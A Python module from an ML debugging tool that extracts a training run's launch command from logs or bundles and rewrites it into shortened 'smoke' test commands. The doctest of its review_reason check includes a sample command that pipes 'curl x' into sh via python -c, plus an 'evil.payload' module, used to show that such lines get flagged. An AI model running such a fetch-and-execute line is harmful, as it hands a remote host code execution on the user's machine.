"""Concrete smoke commands: find the run's command line, then apply a smoke recipe to it as argv edits.

The command is found in (first hit wins) ``--cmd``, a bundle's recorded process command lines, a launcher echo
in a training log (``torchrun ...``, ``python train.py ...``, HF-style ``Running with args: [...]``) or a
launch script in the run directory. It is only ever *shown*: ``smoke run`` executes the argv the user passes,
never a string built from log text. How generic override keys map onto each framework's flags is data
(``overrides.yaml`` beside this module), so supporting another framework is a YAML edit.
"""

from __future__ import annotations

import ast
import json
import os
import re
import shlex
from collections.abc import Iterator, Mapping
from dataclasses import dataclass, field
from functools import cache
from importlib import resources
from pathlib import Path
from typing import Any

import yaml

from ..collectors.rundir import find_run_files
from ..engine.safeio import open_regular, read_capped, read_up_to

MAX_SCAN_BYTES = 1 << 20  # the launch echo sits at the top of a log: never read a huge log whole
MAX_SCAN_LINES = 5000
MAX_BUNDLE_BYTES = 64 << 20
_PROGRAM = re.compile(r"^(?:python[0-9.]*|torchrun|accelerate|deepspeed)$")
_ENV_ASSIGN = re.compile(r"^[A-Za-z_][A-Za-z0-9_]*=")
_ARGS_LIST = re.compile(r"(?i)(?:running with args|sys\.argv|argv)\s*[:=]\s*(\[.*\])")
_KV = re.compile(r"^([+~]{0,2})([A-Za-z_][\w./@-]*)=(.*)$")
_BOOL_WORDS = {"true", "false", "1", "0", "yes", "no"}


@cache
def overrides_table() -> dict[str, Any]:
    text = resources.files("mldebug_rules.smokes").joinpath("overrides.yaml").read_text("utf-8")
    return dict(yaml.safe_load(text))


# --- finding the command line ------------------------------------------------------------------------------
@dataclass
class FoundCommand:
    argv: list[str]
    source: str  # where it was found: "--cmd", "train.log:3", "run.mldebug.json"
    # Why a human must read it before running it ("" when none): text from a log or bundle that runs inline
    # code (``python -c``) or a module that is not a known launcher (``python -m``) is never offered ready.
    review: str = ""

    def __post_init__(self) -> None:
        if self.source != "--cmd" and not self.review:
            self.review = review_reason(self.argv)


def review_reason(argv: list[str]) -> str:
    """Why this command line, found in log text, must be reviewed before running ("" when it need not be).

    >>> review_reason(["python", "-u", "train.py", "--lr", "3e-4"])
    ''
    >>> review_reason(["python", "-m", "torch.distributed.run", "--nproc_per_node", "2", "train.py"])
    ''
    >>> review_reason(["python", "-c", "import os; os.system('curl x|sh')", "train.py"])
    'runs inline code (python -c)'
    >>> review_reason(["python", "-m", "evil.payload", "train.py"])
    "runs module 'evil.payload' (python -m), not a known launcher"
    """
    tokens = list(argv)
    if tokens and os.path.basename(tokens[0]) == "env":
        tokens = tokens[1:]
    while tokens and _ENV_ASSIGN.match(tokens[0]):
        tokens = tokens[1:]
    if not tokens or not _PROGRAM.match(os.path.basename(tokens[0])):
        return "its program is not a known launcher or interpreter"
    known_modules = {p for spec in overrides_table()["launchers"].values() for p in spec["programs"]}
    for i, tok in enumerate(tokens[1:], 1):
        if tok.endswith(".py") or tok in known_modules:
            return ""  # the script (or launcher module) is reached: what follows are its own arguments
        if tok == "-c" or (tok.startswith("-c") and not tok.startswith("--")):
            return f"runs inline code ({os.path.basename(tokens[0])} -c)"
        if tok in ("--no-python", "--no_python"):
            return "runs a program that is not a Python script (--no-python)"
        if tok == "-m":
            module = tokens[i + 1] if i + 1 < len(tokens) else ""
            if module not in known_modules:
                return f"runs module {module!r} ({os.path.basename(tokens[0])} -m), not a known launcher"
    return ""


def parse_command_line(line: str) -> list[str] | None:
    """The training command inside one line of text, as argv, or None. Tolerates prompts and prefixes
    ("$ ", "+ ", "Command: ", "[rank0]") by looking for the launcher or interpreter token itself."""
    m = _ARGS_LIST.search(line)
    if m:
        try:
            items = ast.literal_eval(m.group(1))
        except (ValueError, SyntaxError):
            items = None
        if isinstance(items, list) and items and all(isinstance(x, str) for x in items):
            argv = list(items)
            if argv[0].endswith(".py"):
                argv = ["python", *argv]
            return argv if _looks_like_training(argv, 0) else None
    try:
        tokens = shlex.split(line, comments=False)
    except ValueError:
        return None
    for i, tok in enumerate(tokens):
        if _PROGRAM.match(os.path.basename(tok)) and _looks_like_training(tokens, i):
            start = i
            while start > 0 and _ENV_ASSIGN.match(tokens[start - 1]):
                start -= 1
            return tokens[start:]
    return None


def _looks_like_training(tokens: list[str], i: int) -> bool:
    prog = os.path.basename(tokens[i])
    rest = tokens[i + 1 :]
    if prog == "accelerate" and (not rest or rest[0] != "launch"):
        return False
    return any(t.endswith(".py") for t in rest) or "-m" in rest


def _read_head(path: Path) -> Iterator[str]:
    try:
        with open_regular(path) as fh:
            data = read_up_to(fh, MAX_SCAN_BYTES)
    except OSError:
        return
    for n, raw in enumerate(data.splitlines()):
        if n >= MAX_SCAN_LINES:
            return
        yield raw.decode("utf-8", "replace")


def _bundle_cmdlines(obj: Any, depth: int = 0) -> Iterator[list[str]]:
    """Process command lines anywhere in a bundle (its layout belongs to `collect`: only key names matter)."""
    if depth > 12:
        return
    if isinstance(obj, dict):
        # A `collect` bundle keeps each training process as a `process` fact whose text is its command line.
        if str(obj.get("kind", "")).startswith("process") and isinstance(obj.get("text"), str):
            argv = parse_command_line(obj["text"])
            if argv:
                yield argv
        for k, v in obj.items():
            if k in ("cmdline", "command", "cmd", "argv"):
                if isinstance(v, list) and v and all(isinstance(x, str) for x in v):
                    yield list(v)
                elif isinstance(v, str):
                    argv = parse_command_line(v)
                    if argv:
                        yield argv
            else:
                yield from _bundle_cmdlines(v, depth + 1)
    elif isinstance(obj, list):
        for v in obj:
            yield from _bundle_cmdlines(v, depth + 1)


def find_command(run_dir: Path, cmd: str | None = None) -> FoundCommand | None:
    if cmd:
        try:
            return FoundCommand(shlex.split(cmd), "--cmd")
        except ValueError as e:
            from ..errors import UsageError

            raise UsageError(f"--cmd: {e}") from None
    files = find_run_files(run_dir)
    for bundle in files.files("bundle"):
        try:
            data = json.loads(read_capped(bundle, MAX_BUNDLE_BYTES).decode("utf-8", "replace"))
        except (OSError, ValueError):
            continue
        for argv in _bundle_cmdlines(data):
            i = next((j for j, t in enumerate(argv) if _PROGRAM.match(os.path.basename(t))), None)
            if i is not None and _looks_like_training(argv, i):
                return FoundCommand(argv[i:], files.rel(bundle))
    scripts = sorted(p for p in run_dir.glob("*.sh") if p.is_file())
    for path in [*files.files("train"), *files.files("scheduler"), *scripts]:
        for n, line in enumerate(_read_head(path), 1):
            argv = parse_command_line(line)
            if argv:
                return FoundCommand(
                    argv, f"{files.rel(path) if path in files.files('train') else path.name}:{n}"
                )
    return None


# --- applying a recipe --------------------------------------------------------------------------------------
@dataclass
class Split:
    env: dict[str, str]
    head: list[str]  # launcher and/or interpreter up to and including the script (or `-m module`)
    launcher: str | None
    launcher_at: int  # index in head of the launcher's first option slot
    script_at: int  # index in head of the script token
    args: list[str]  # the script's own arguments


def split_command(argv: list[str]) -> Split:
    table = overrides_table()
    tokens = list(argv)
    env: dict[str, str] = {}
    if tokens and os.path.basename(tokens[0]) == "env":
        tokens = tokens[1:]
    while tokens and _ENV_ASSIGN.match(tokens[0]):
        k, _, v = tokens.pop(0).partition("=")
        env[k] = v
    launcher, launcher_at = None, -1
    for i, tok in enumerate(tokens):
        base = os.path.basename(tok)
        if base.endswith(".py"):
            break
        for name, spec in table["launchers"].items():
            if base in spec["programs"] or (i > 0 and tokens[i - 1] == "-m" and tok in spec["programs"]):
                launcher = name
                sub = base == "accelerate" and i + 1 < len(tokens) and tokens[i + 1] == "launch"
                launcher_at = i + 1 + int(sub)  # options start after `accelerate launch`
                break
        if launcher:
            break
    # The script: the first .py after the launcher's options, or the module of `-m module`.
    script_at = len(tokens) - 1
    for i in range(launcher_at if launcher else 0, len(tokens)):
        if tokens[i].endswith(".py"):
            script_at = i
            break
        if tokens[i] == "-m" and i + 1 < len(tokens):
            script_at = i + 1
            break
    return Split(env, tokens[: script_at + 1], launcher, launcher_at, script_at, tokens[script_at + 1 :])


def detect_framework(args: list[str]) -> str:
    table = overrides_table()
    flags = {a.split("=", 1)[0] for a in args if a.startswith("-")}
    for name in table["detect_order"]:
        det = table["frameworks"][name].get("detect") or {}
        if det.get("flags") and flags & set(det["flags"]):
            return name
        if det.get("prefixes") and any(f.startswith(tuple(det["prefixes"])) for f in flags):
            return name
        if det.get("kv") and any(_KV.match(a) for a in args if not a.startswith("-")):
            return name
    return table["detect_order"][-1]


def render_value(value: Any, style: str) -> str:
    if isinstance(value, bool):
        return ("True" if value else "False") if style == "flag" else ("true" if value else "false")
    return str(value)


def _set_flag(args: list[str], aliases: list[str], value: Any, is_bool: bool, add: bool) -> str | None:
    """Edit ``args`` in place; return a note of what changed, "" for a no-op, None when it could not."""
    for i, tok in enumerate(args):
        name, eq, old = tok.partition("=")
        if name not in aliases:
            continue
        has_next = not eq and i + 1 < len(args) and not args[i + 1].startswith("-")
        if is_bool:
            takes_word = has_next and args[i + 1].lower() in _BOOL_WORDS
            if not value:
                del args[i : i + (2 if takes_word else 1)]
                return f"removed {tok}"
            if eq:
                args[i] = f"{name}=True"
            elif takes_word:
                args[i + 1] = "True"
            return f"{name} on"
        new = render_value(value, "flag")
        if eq:
            args[i] = f"{name}={new}"
            return f"{name} {old} -> {new}" if old != new else ""
        if has_next:
            old, args[i + 1] = args[i + 1], new
            return f"{name} {old} -> {new}" if old != new else ""
        args.insert(i + 1, new)
        return f"{name} -> {new}"
    if is_bool and not value:
        return ""  # already off
    if not add:
        return None
    args.extend([aliases[0]] if is_bool else [aliases[0], render_value(value, "flag")])
    return f"added {aliases[0]}" + ("" if is_bool else f" {render_value(value, 'flag')}")


def _set_kv(args: list[str], aliases: list[str], value: Any, add: bool) -> str | None:
    new = render_value(value, "kv")
    lasts = {a.rsplit(".", 1)[-1] for a in aliases}
    for exact in (True, False):
        for i, tok in enumerate(args):
            m = _KV.match(tok) if not tok.startswith("-") else None
            if not m:
                continue
            key = m.group(2)
            if (key in aliases) if exact else (key.rsplit(".", 1)[-1] in lasts):
                args[i] = f"{m.group(1)}{key}={new}"
                return f"{key} {m.group(3)} -> {new}" if m.group(3) != new else ""
    if not add:
        return None
    args.append(f"++{aliases[0]}={new}")
    return f"added ++{aliases[0]}={new} (check the key path in your config)"


@cache
def _flag_aliases(key: str) -> tuple[str, ...]:
    """Every flag-style framework's spellings of one override key."""
    out: list[str] = []
    for fw in overrides_table()["frameworks"].values():
        if fw["style"] == "flag":
            out += [a for a in fw["keys"].get(key, []) if a not in out]
    return tuple(out)


@dataclass
class Applied:
    argv: list[str]
    framework: str
    changes: list[str] = field(default_factory=list)
    unapplied: dict[str, Any] = field(
        default_factory=dict
    )  # need a code/config change: the user applies them
    notes: list[str] = field(default_factory=list)


def apply_recipe(argv: list[str], recipe: Mapping[str, Any]) -> Applied:
    table = overrides_table()
    sp = split_command(argv)
    fw_name = detect_framework(sp.args)
    fw = table["frameworks"][fw_name]
    out = Applied([], fw_name)
    head, args = list(sp.head), list(sp.args)
    launcher_keys: Mapping[str, str] = table["launcher_keys"]
    overrides: dict[str, Any] = dict(recipe.get("overrides") or {})
    extra_args = list(recipe.get("args") or [])
    i = 0
    while i < len(extra_args):  # recipe args are launcher flags ("--nproc-per-node 1")
        tok = extra_args[i]
        name, eq, val = tok.partition("=")
        if name in launcher_keys:
            if not eq and i + 1 < len(extra_args):
                val, i = extra_args[i + 1], i + 1
            overrides[launcher_keys[name]] = val
        else:
            out.unapplied.setdefault("args", []).append(tok)
        i += 1
    launcher_set: dict[str, Any] = {}
    for key, value in overrides.items():
        if key in launcher_keys:
            launcher_set[launcher_keys[key]] = value
            continue
        if key in fw.get("ignore", []):
            continue
        aliases = fw["keys"].get(key)
        if not aliases:
            out.unapplied[key] = value
            continue
        if fw["style"] == "flag":
            # The script may already set this with another framework's spelling (an HF-style command whose
            # script has its own `--num_workers`): change that flag, never add a second one for the setting.
            aliases = [*aliases, *(a for a in _flag_aliases(key) if a not in aliases)]
        if fw["style"] == "kv":
            note = _set_kv(args, aliases, value, bool(fw.get("add_missing")))
        else:
            note = _set_flag(args, aliases, value, key in fw.get("bools", []), bool(fw.get("add_missing")))
        if note is None:
            out.unapplied[key] = value
        elif note:
            out.changes.append(note)
    if launcher_set:
        _apply_process_count(head, args, sp, fw, launcher_set, out)
    env = dict(sp.env)
    for k, v in (recipe.get("env") or {}).items():
        if env.get(k) != str(v):
            out.changes.append(f"{k}={v}")
        env[k] = str(v)
    out.argv = (["env", *(f"{k}={v}" for k, v in env.items())] if env else []) + head + args
    return out


def _apply_process_count(
    head: list[str], args: list[str], sp: Split, fw: Mapping[str, Any], want: Mapping[str, Any], out: Applied
) -> None:
    """Set the process count (``nproc``, ``nnodes``) on the launcher, and keep the framework's own device
    count in step: Lightning's ``--trainer.devices 8`` under one process would fail (or spawn 8 itself)."""
    want = dict(want)
    # "N ranks" means N ranks on this node: a multi-node rendezvous would wait for the other nodes forever.
    if "nproc" in want and "nnodes" not in want:
        want["nnodes"] = 1
        explicit = {"nproc"}
    else:
        explicit = set(want)
    changed = False
    for key, value in want.items():
        if sp.launcher is not None:
            changed |= _apply_launcher(head, sp, key, value, out, add=key in explicit)
        elif key in explicit and not (key == "nproc" and str(value) == "1"):
            out.unapplied[key] = value  # no launcher to tell: the script's own config decides
    # The framework's device flags, only where the command already sets them (their defaults follow the
    # launcher's world size).
    for key, fw_key in (("nproc", "gpus"), ("nnodes", "num_nodes")):
        aliases = fw.get("keys", {}).get(fw_key)
        if key not in want or not aliases:
            continue
        if fw["style"] == "kv":
            note = _set_kv(args, aliases, want[key], False)
        else:
            note = _set_flag(args, aliases, want[key], False, False)
        if note:
            out.changes.append(note)
            changed = True
    if sp.launcher is None and str(want.get("nproc")) == "1" and not changed:
        out.notes.append("the run is already a single process (no launcher)")


def _apply_launcher(head: list[str], sp: Split, key: str, value: Any, out: Applied, add: bool = True) -> bool:
    """Set a launcher option; ``add=False`` only changes one the command already has. True when it changed."""
    aliases = overrides_table()["launchers"][sp.launcher or ""]["flags"].get(key)
    if not aliases:
        if add:
            out.unapplied[key] = value
        return False
    opts = head[sp.launcher_at : sp.script_at]
    note = _set_flag(opts, aliases, value, False, False)
    if note is None:
        if not add:
            return False
        opts[:0] = [aliases[0], render_value(value, "flag")]
        note = f"added {aliases[0]} {value}"
    head[sp.launcher_at : sp.script_at] = opts
    sp.script_at = sp.launcher_at + len(opts)
    if not note:
        return False  # already so
    out.changes.append(note)
    return True


def overrides_for_control(name: str, value: str, controls: Mapping[str, Any]) -> dict[str, Any]:
    """The recipe (env + overrides) that applies control NAME=VALUE to a command line."""
    values = controls[name].get("values") or {}
    spec = values.get(value) or values.get("*") or {}

    def subst(v: Any) -> Any:
        return value if v == "$value" else v

    return {
        "env": {k: str(subst(v)) for k, v in (spec.get("env") or {}).items()},
        "overrides": {k: subst(v) for k, v in (spec.get("overrides") or {}).items()},
    }


# --- the smoke's conditions, and where it starts ------------------------------------------------------------
def conditions_of(recipe: Mapping[str, Any]) -> dict[str, Any]:
    """The part of a recipe a baseline gets: only how long it runs and where it starts (``condition_keys``),
    never the variable the smoke tests (environment, launcher arguments, the other overrides)."""
    keys = set(overrides_table().get("condition_keys") or [])
    return {"overrides": {k: v for k, v in (recipe.get("overrides") or {}).items() if k in keys}}


_HF_CHECKPOINT_DIR = re.compile(r"^checkpoint-\d+$")


def _resume_path(run_dir: str, rel: str) -> str:
    """A checkpoint as the trainer resumes from it: HF's `checkpoint-N/` folder rather than a file in it."""
    parts = Path(rel).parts
    for i, part in enumerate(parts):
        if _HF_CHECKPOINT_DIR.match(part):
            parts = parts[: i + 1]
            break
    return os.path.join(run_dir, *parts)


def resolve_onset(
    recipe: Mapping[str, Any],
    run_dir: str,
    onsets: list[tuple[str, int]],
    checkpoints: list[tuple[str, int]],
) -> tuple[dict[str, Any], list[str]]:
    """A recipe with ``onset`` made concrete for this run: resume from the last checkpoint saved before the
    failure's onset (when there is one) and run past the onset step. ``onsets``: (trend, step) of the run's
    metric trends; ``checkpoints``: (path relative to the run directory, step) of its valid checkpoints."""
    out = {k: (dict(v) if isinstance(v, Mapping) else v) for k, v in recipe.items() if k != "onset"}
    spec = recipe.get("onset")
    if not isinstance(spec, Mapping):
        return out, []
    trends = set(spec.get("trends") or [])
    steps = sorted(step for trend, step in onsets if trend in trends and step >= 0)
    if not steps:
        return out, [
            "the failure's onset step is not known from the metrics: make sure the smoke runs past the step "
            "where it appeared, or it passes for the wrong reason"
        ]
    first, last = steps[0], steps[-1]
    overrides = dict(out.get("overrides") or {})
    overrides["max_steps"] = last + int(spec.get("past_steps", 20))
    notes = [f"runs to step {overrides['max_steps']}, past the failure's onset (step {last})"]
    before = [(step, path) for path, step in checkpoints if 0 <= step < first]
    if before:
        step, path = max(before)
        overrides["resume_from"] = _resume_path(run_dir, path)
        notes.append(
            f"resumes from {path} (step {step}), the last checkpoint before the onset at step {first}"
        )
    else:
        notes.append(f"no checkpoint saved before the onset at step {first}: it starts from scratch")
    out["overrides"] = overrides
    return out, notes
